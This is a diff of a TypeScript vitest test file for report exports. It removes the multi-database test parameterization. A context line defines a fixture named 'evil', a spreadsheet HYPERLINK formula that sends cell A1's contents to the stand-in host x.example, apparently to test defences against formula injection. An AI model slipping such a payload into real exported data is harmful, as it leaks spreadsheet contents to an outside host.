@@ -1,7 +1,6 @@
 import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
 import { type CallAnswer, type TestApp, testApp } from '../../../tests/support/app.ts'
 import { readCsv } from '../../../tests/support/csv.ts'
-import { testDatabases } from '../../../tests/support/database.ts'
 import { dateOfSerial, readWorkbook } from '../../../tests/support/workbook.ts'
 import { puertoRicoDay } from '../../lib/dates.ts'
 import { rateLimits } from '../../lib/rate-limits.server.ts'
@@ -18,11 +17,11 @@ import { reportLimit } from './service.server.ts'
 const evil = '=HYPERLINK("http://x.example/?"&A1,"María")'
 const at = (day: string) => new Date(`${day}T23:30:00-04:00`)
 
-describe.each(testDatabases())('reports on %s', (kind) => {
+describe('reports', () => {
   let api: TestApp
   let marchEvent: number
   beforeAll(async () => {
-    api = await testApp(kind)
+    api = await testApp()
     marchEvent = await fill(api)
   })
   afterAll(() => api.close())
